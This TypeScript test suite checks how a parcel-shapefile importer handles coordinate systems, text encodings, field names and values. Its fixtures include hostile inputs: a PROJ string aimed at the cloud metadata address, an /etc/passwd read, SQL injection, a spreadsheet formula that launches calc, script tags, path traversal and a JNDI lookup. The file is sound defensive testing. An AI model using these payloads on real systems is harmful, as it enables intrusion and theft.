/** What a shapefile says in words: its coordinate system, its encoding, its fields and values (T6–T8, T12, T14). */
import iconv from 'iconv-lite';
import { box, type Cell, type LayerParts, prj4524 } from '../../intake/make-shapefile.ts';
import { type Add, atOnce, group, load, refuse } from '../case.ts';
import { degrees, degreesM2, east, near, north, plotM2, twoM2, zipped } from '../shapes.ts';

const two = load(2, { m2: 2 * plotM2 });
const shp = { file: 'parcels.shp' };

export const shapefileWords = group('words', { to: 'parcel-set', file: '地块.zip', fields: {} }, (add) => {
  systems(add);
  encodings(add);
  names(add);
  values(add);
});

const geogcs = (datum: string, a: number, f: number, more = '') =>
  `GEOGCS["GCS_X",DATUM["${datum}",SPHEROID["${datum}",${a},${f}]${more}],PRIMEM["Greenwich",0.0],UNIT["Degree",0.0174532925199433]]`;
const plane = (
  base: string,
  { cm = 108, fe = 36_500_000, fn = 0, scale = 1, unit = 'UNIT["Meter",1.0]', projection = 'Gauss_Kruger' } = {},
) =>
  `PROJCS["X",${base},PROJECTION["${projection}"],PARAMETER["False_Easting",${fe}],PARAMETER["False_Northing",${fn}],PARAMETER["Central_Meridian",${cm}],PARAMETER["Scale_Factor",${scale}],PARAMETER["Latitude_Of_Origin",0.0],${unit}]`;
const ours = geogcs('D_China_2000', 6378137, 298.257222101);

function systems(add: Add): void {
  const said = (
    what: string,
    prj: string | null,
    code: Parameters<typeof refuse>[0],
    where: object = shp,
    more: LayerParts = {},
  ) => add(what, zipped({ prj, ...more }), refuse(code, where));
  const inDegrees = { shapes: [[degrees(0)], [degrees(1)]] };
  add(
    'no .prj, and one zone that it can be',
    zipped({ prj: null }),
    load(2, { m2: 2 * plotM2, told: ['crs-inferred'], decided: { crs: { srid: 4524, source: 'inferred' } } }),
  );
  add(
    'no .prj, and no zone before the easting',
    zipped({ prj: null, shapes: [[box(500_000, north, 100)], [box(500_200, north, 100)]] }),
    refuse('crs-unknown', shp),
  );
  add(
    'no .prj, and numbers of nowhere',
    zipped({ prj: null, shapes: [[box(12, 7, 1)], [box(14, 7, 1)]] }),
    refuse('crs-unknown', shp),
  );
  add('no .prj, and degrees', zipped({ prj: null, ...inDegrees }), load(2, { m2: twoM2, told: ['crs-inferred'] }));
  add(
    'no .prj, and the axes exchanged',
    zipped({ prj: null, shapes: [near(0), near(1)].map((s) => s.map((r) => r.map(([x, y]) => [y, x]))) }),
    refuse(['coordinate-outside-crs', 'crs-unknown'], shp),
  );
  add(
    'an empty .prj',
    zipped({
      change: (f) => {
        f['prj'] = Buffer.alloc(0);
      },
    }),
    load(2, { told: ['crs-inferred'] }),
  );
  add('a .prj of blanks and zeros', zipped({ prj: '  \n\0\0' }), load(2, { told: ['crs-inferred'] }));
  add('CGCS2000 in degrees', zipped({ prj: ours, ...inDegrees }), load(2, { m2: twoM2 }));
  add(
    'WGS 84 in degrees',
    zipped({ prj: geogcs('D_WGS_1984', 6378137, 298.257223563), ...inDegrees }),
    load(2, { m2: twoM2 }),
  );
  add(
    'a .prj in UTF-16',
    zipped({
      change: (f) => {
        f['prj'] = Buffer.from(`\uFEFF${prj4524}`, 'utf16le');
      },
    }),
    two,
  );
  add('a .prj with a mark of UTF-8', zipped({ prj: `\uFEFF${prj4524}` }), two);
  add('a .prj in small letters with line ends', zipped({ prj: prj4524.replaceAll(',', ',\r\n  ') }), two);
  add(
    'a .prj whose name says another zone than its parameters',
    zipped({ prj: prj4524.replace('Zone_36', 'Zone_35') }),
    two,
  );
  said('Beijing 54', geogcs('D_Beijing_1954', 6378245, 298.3), 'crs-unsupported-datum');
  said('Beijing 54 in a plane', plane(geogcs('D_Beijing_1954', 6378245, 298.3)), 'crs-unsupported-datum');
  said('Xian 80', geogcs('D_Xian_1980', 6378140, 298.257), 'crs-unsupported-datum');
  said('Xian 80 by its ellipsoid alone', plane(geogcs('D_Unknown', 6378140, 298.257)), 'crs-unsupported-datum');
  said('Xian 80 on the ellipsoid of CGCS2000', geogcs('D_Xian_1980', 6378137, 298.257222101), 'crs-unsupported-datum');
  said('NAD 27', geogcs('D_North_American_1927', 6378206.4, 294.978698213898), 'crs-unsupported-datum');
  said(
    'CGCS2000 with a shift to WGS 84',
    plane(geogcs('D_China_2000', 6378137, 298.257222101, ',TOWGS84[15.8,-154.4,-82.3,0,0,0,0]')),
    'crs-unsupported-datum',
  );
  said('a datum that is not named', plane(geogcs('D_Unknown', 6378137, 298.257222101)), 'crs-unknown', {
    ...shp,
    candidates: ['EPSG:4524'],
  });
  said('a local meridian', plane(ours, { cm: 108.5, fe: 500_000 }), 'crs-unknown', { candidates: ['EPSG:4545'] });
  said('a local false northing', plane(ours, { fn: -3_000_000 }), 'crs-unknown');
  said('a scale of 0.99', plane(ours, { scale: 0.99 }), 'crs-unknown');
  said('feet', plane(ours, { unit: 'UNIT["Foot_US",0.3048006096]' }), 'crs-unknown');
  said('Lambert', plane(ours, { projection: 'Lambert_Conformal_Conic' }), 'crs-unknown');
  said('longitudes from Paris', prj4524.replace('PRIMEM["Greenwich",0.0]', 'PRIMEM["Paris",2.33722917]'), [
    'crs-unknown',
    'crs-unsupported-datum',
  ]);
  said('a local coordinate system', 'LOCAL_CS["Nonearth",UNIT["Meter",1]]', 'crs-unknown');
  said('text', '国家2000坐标系，36带', 'crs-unknown');
  said(
    'a pipeline of PROJ',
    '+proj=utm +zone=49 +datum=WGS84 +nadgrids=@http://169.254.169.254/x +wktext',
    'crs-unknown',
  );
  said('an initialisation of PROJ', '+init=/etc/passwd:4524', 'crs-unknown');
  said('a hundred thousand brackets', 'PROJCS['.repeat(100_000), 'crs-unknown');
  said('five megabytes', `PROJCS["${'X'.repeat(5_000_000)}"]`, 'crs-unknown');
  said('numbers that are none', prj4524.replace('36500000.0', '1e999'), ['crs-unknown', 'crs-unsupported-datum']);
  said('half of it', prj4524.slice(0, 150), ['crs-unknown', 'crs-unsupported-datum']);
  const asked = (srid: string) => ({ fields: { srid } });
  add(
    'no .prj, and a person says it',
    zipped({ prj: null, shapes: [[box(500_000, north, 100)], [box(500_200, north, 100)]] }),
    load(2, { m2: 2 * plotM2, decided: { crs: { source: 'user' } } }),
    asked('4545'),
  );
  add(
    'a person says another zone',
    zipped(),
    refuse('crs-conflict', { ...shp, candidates: ['EPSG:4524', 'EPSG:4525'] }),
    asked('4525'),
  );
  add(
    'a person says CGCS2000 of Beijing 54',
    zipped({ prj: geogcs('D_Beijing_1954', 6378245, 298.3) }),
    refuse('crs-conflict', shp),
    asked('4490'),
  );
  add(
    'a person says Xian 80',
    zipped({ prj: null }),
    atOnce('crs-unsupported-datum', { field: 'srid' }),
    asked('2360'),
  );
  add(
    'a person says a system that is not',
    zipped({ prj: null }),
    atOnce('crs-unknown', { field: 'srid' }),
    asked('999999'),
  );
  add('a person says it in words', zipped({ prj: null }), atOnce('validation', { field: 'srid' }), asked('EPSG:4524'));
  add('two layers of two systems, joined', zipped(), refuse('crs-conflict'), asked('4526'));
}

const han = (encoding: string, more: LayerParts = {}) =>
  zipped({
    columns: [{ name: 'DKBH' }, { name: '地类', width: 30 }],
    rows: [
      ['一号', '旱地，坡耕地'],
      ['二号', '水田与园地'],
    ],
    ...more,
    dbf: { encoding, ...more.dbf },
  });

function encodings(add: Add): void {
  const is = (encoding: string, told: string[] = []) =>
    load(2, { m2: 2 * plotM2, decided: { encoding: { encoding } }, told });
  add('GBK, declared', han('gbk', { cpg: 'GBK' }), is('GB18030'));
  add('GBK, by its language driver', han('gbk', { dbf: { ldid: 77 } }), is('GB18030'));
  add('GBK, not declared', han('gbk'), is('GB18030'));
  add('GBK under the mark of ANSI', han('gbk', { dbf: { ldid: 0x57 } }), is('GB18030'));
  add('GBK, declared UTF-8', han('gbk', { cpg: 'UTF-8' }), is('GB18030', ['encoding-disagrees']));
  add('GBK, declared ISO 88591', han('gbk', { cpg: 'ISO 88591' }), is('GB18030', ['encoding-disagrees']));
  add('UTF-8, declared', han('utf8', { cpg: 'UTF-8' }), is('UTF-8'));
  add('UTF-8, not declared', han('utf8'), is('UTF-8'));
  add('UTF-8, declared GBK', han('utf8', { cpg: '936' }), is('UTF-8', ['encoding-disagrees']));
  add(
    'Big5, declared',
    zipped({
      columns: [{ name: 'DKBH' }],
      rows: [['臺灣農業區'], ['國土調查']],
      dbf: { encoding: 'big5' },
      cpg: 'Big5',
    }),
    is('Big5'),
  );
  add(
    'GB18030 of four bytes',
    zipped({ rows: [['㐂村一号'], ['𠀀村二号']], dbf: { encoding: 'gb18030' }, cpg: 'GB18030' }),
    is('GB18030'),
  );
  add('a .cpg of noise', han('gbk', { cpg: '\x00\xff\x13klingon' }), is('GB18030'));
  add('a .cpg of a megabyte', han('utf8', { cpg: `UTF-8${' '.repeat(1_000_000)}` }), load(2));
  add(
    'a character cut in half at the end of its field',
    zipped({
      columns: [{ name: 'DKBH' }, { name: 'MC', width: 5 }],
      rows: [
        ['P1', '旱地坡'],
        ['P2', '水田园'],
      ],
      dbf: { encoding: 'gbk' },
      cpg: 'GBK',
    }),
    load(2, { told: ['text-cut'] }),
  );
  add(
    'bytes of no encoding',
    zipped({ rows: [[Buffer.from([0xd6, 0xd0, 0xff, 0xff, 0x41])], ['P2']] }),
    refuse('encoding-undetermined', { file: 'parcels.dbf', row: 1, field: 'DKBH' }),
  );
  add(
    'half in UTF-8, half in GBK',
    zipped({ rows: [['中文'], [iconv.encode('中文字', 'gbk')]] }),
    refuse('encoding-undetermined', { file: 'parcels.dbf' }),
  );
  add(
    'a person says Big5 of UTF-8',
    han('utf8', { cpg: 'UTF-8' }),
    refuse('encoding-undetermined', { file: 'parcels.dbf' }),
    { fields: { encoding: 'Big5' } },
  );
  add('a person says GBK of GBK', han('gbk', { cpg: 'UTF-8' }), is('GB18030'), { fields: { encoding: 'GBK' } });
  add('a person says an encoding that is not', han('gbk'), atOnce('validation', { field: 'encoding' }), {
    fields: { encoding: 'klingon' },
  });
}

function names(add: Add): void {
  const named = (what: string, columns: (string | Buffer)[], more: Parameters<typeof load>[1] = {}) =>
    add(
      what,
      zipped({
        columns: [{ name: 'DKBH' }, ...columns.map((name) => ({ name }))],
        rows: [0, 1].map((n) => [`P${n}`, ...columns.map((_, i) => `v${i}`)]),
      }),
      load(2, { m2: 2 * plotM2, ...more }),
    );
  named('fields named in SQL', [`';drop--`, `x"; --`, `1=1 or 1`, '$1', 'select']);
  named(
    'fields named as members of every object',
    ['__proto__', 'toString', 'valueOf', 'prototype', 'hasOwnPrp', 'constructo'],
    { told: ['field-renamed'] },
  );
  named('fields of one name', ['MJ', 'MJ', 'MJ'], { told: ['field-renamed'] });
  named('fields without a name', ['', ''], { told: ['field-renamed'] });
  named('fields with control characters in their names', ['A\x01B', 'C\nD', '\x1b[31m'], { told: ['field-renamed'] });
  named('fields named in HTML', ['<b>x</b>', '<img>']);
  named('fields named as columns of the database', ['parcel_id', 'region_cod', 'geom', 'attributes', 'ordinal'], {});
  named('a name cut in half a character', [iconv.encode('田坎系数值', 'utf8').subarray(0, 10)]);
}

function values(add: Add): void {
  const valued = (
    what: string,
    rows: Cell[][],
    expected: ReturnType<typeof load | typeof refuse> = two,
    column: object = {},
  ) =>
    add(
      what,
      zipped({
        columns: [
          { name: 'DKBH', width: 40 },
          { name: 'MC', width: 120, ...column },
        ],
        rows,
      }),
      expected,
    );
  valued('values in SQL', [
    [`'; drop table parcel; --`, `" or ""="`],
    [`$$||pg_sleep(10)||$$`, `\\'; commit; --`],
  ]);
  valued('values in HTML and formulas', [
    ["=cmd|' /C calc'!A0", '<script>alert(1)</script>'],
    ['+1+1', '@SUM(A1)'],
  ]);
  valued('a path for an id', [
    ['../../etc/passwd', '{{7*7}}'],
    ['P/2', '$' + '{jndi:ldap://x}'],
  ]);
  valued('NUL within values', [
    ['P1\0rest', 'x\0y'],
    ['P2', '\0'],
  ]);
  valued('control characters in values', [
    ['P1', 'a\x01\x02\x1b[31mb'],
    ['P2', '\x7f\x08'],
  ]);
  valued(
    'direction marks in values',
    [
      ['P1', '\u202e乙甲'],
      ['P2', '\u200b\ufeff'],
    ],
    load(2, { m2: 2 * plotM2 }),
  );
  valued(
    'private-use characters in values',
    [
      ['P1', '\ue000\ue001乡'],
      ['P2', '村'],
    ],
    refuse('encoding-undetermined'),
  );
  valued('JSON in values', [
    ['P1', '{"__proto__":{"x":1}}'],
    ['P2', '[[[[]]]]'],
  ]);
  valued(
    'identifiers of 19 digits',
    [
      ['5002420000000000001', '1'],
      ['5002420000000000002', '2'],
    ],
    load(2),
    { type: 'N', width: 19 },
  );
  valued(
    'stars for numbers',
    [
      ['P1', '*'.repeat(12)],
      ['P2', '1.5'],
    ],
    load(2),
    { type: 'N', width: 12, decimals: 2 },
  );
  valued(
    'letters for numbers',
    [
      ['P1', 'abc'],
      ['P2', '1,5'],
    ],
    load(2, { told: ['number-unreadable'] }),
    { type: 'N', width: 12 },
  );
  valued(
    '1e300 for a number',
    [
      ['P1', '1e300'],
      ['P2', '-1e-300'],
    ],
    load(2),
    { type: 'F', width: 12 },
  );
  valued(
    'NaN for a number',
    [
      ['P1', 'NaN'],
      ['P2', 'Infinity'],
    ],
    load(2, { told: ['number-unreadable'] }),
    { type: 'F', width: 12 },
  );
  valued(
    'dates that are none',
    [
      ['P1', '20231345'],
      ['P2', '99999999'],
    ],
    load(2, { told: ['date-unreadable'] }),
    { type: 'D', width: 8 },
  );
  valued(
    'dates of zeros and stars',
    [
      ['P1', '00000000'],
      ['P2', '********'],
    ],
    load(2),
    { type: 'D', width: 8 },
  );
  valued(
    'marks for yes and no that are none',
    [
      ['P1', '?'],
      ['P2', 'X'],
    ],
    load(2),
    { type: 'L', width: 1 },
  );
  valued(
    'one id twice',
    [
      ['P1', 'a'],
      ['P1', 'b'],
    ],
    refuse('duplicate-parcel-id', { rows: [1, 2], field: 'DKBH' }),
  );
  valued(
    'no id at all',
    [
      ['', 'a'],
      ['', 'b'],
    ],
    load(2, { told: ['parcel-id-missing'] }),
  );
  add(
    'one id in two projects',
    zipped({
      columns: [{ name: 'DKBH' }, { name: 'XMBH' }],
      rows: [
        ['1', '50024220210001'],
        ['1', '50024220210002'],
      ],
    }),
    load(2, { told: ['parcel-id-composed'] }),
  );
  add(
    'areas of 1e30, negative and words',
    zipped({
      columns: [{ name: 'DKBH' }, { name: 'XZMJ' }],
      rows: [
        ['P1', '1e30'],
        ['P2', '-5'],
      ],
    }),
    load(2),
  );
  add(
    'areas that are all 0',
    zipped({
      columns: [{ name: 'DKBH' }, { name: 'XZMJ', type: 'N', width: 10, decimals: 2 }],
      rows: [
        ['P1', '0.00'],
        ['P2', '0.00'],
      ],
    }),
    load(2, { told: ['figures-all-zero'] }),
  );
  add(
    'project codes of two counties',
    zipped({
      columns: [{ name: 'DKBH' }, { name: 'XMBH' }],
      rows: [
        ['1', '50024220210001'],
        ['2', '50024120210002'],
      ],
    }),
    load(2, { decided: { region: { source: 'configured' } } }),
  );
  add('a field map of what is not there', zipped(), refuse('validation', { field: 'parcel_id' }), {
    fields: { field_map: '{"parcel_id":"没有"}' },
  });
  add(
    'a plot as far as it goes from its zone',
    zipped({ shapes: [[box(east - 333_000, north, 100)], [box(east - 333_300, north, 100)]] }),
    load(2, { told: ['crs-neighbour-zone'] }),
  );
  add(
    'a plot of the size of a province',
    zipped({ shapes: [[box(east - 200_000, north - 200_000, 400_000)], near(1)] }),
    load(2),
  );
}

export const wgsSquareM2 = degreesM2(degrees(0));
